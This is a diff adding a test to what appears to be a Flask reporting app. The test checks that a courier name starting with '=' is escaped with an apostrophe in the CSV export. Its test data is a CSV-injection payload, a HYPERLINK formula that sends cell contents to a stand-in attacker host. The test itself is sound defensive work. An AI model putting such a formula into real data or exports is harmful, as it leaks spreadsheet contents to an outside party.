@@ -110,6 +110,29 @@ def test_daily_report_csv(client: FlaskClient, auth: Auth, world: World, day: No
     assert rows[2]["courier_username"] == "courier1"
 
 
+def test_the_report_csv_never_hands_a_spreadsheet_a_formula(
+    client: FlaskClient, auth: Auth, session: Session, world: World, day: None
+) -> None:
+    """The monthly report an auditor downloads wrote the couriers' names as they were
+    typed: one beginning with `=` opened as a formula (CSV injection), as the proof
+    export's text cells never do. The name stays as it is, after an apostrophe a
+    spreadsheet does not show."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Zhang Wei")'
+    world.courier.full_name = name
+    session.commit()
+    response = get(
+        client,
+        url(world.station.id, "daily"),
+        auth.headers("auditor1"),
+        date="2026-11-23",
+        format="csv",
+    )
+    assert response.status_code == 200
+    (courier,) = (row for row in table(response) if row["scope"] == "courier")
+    assert courier["courier_name"] == "'" + name
+    assert courier["courier_username"] == "courier1"
+
+
 def test_weekly_report_json_and_csv(
     client: FlaskClient, auth: Auth, world: World, day: None
 ) -> None:
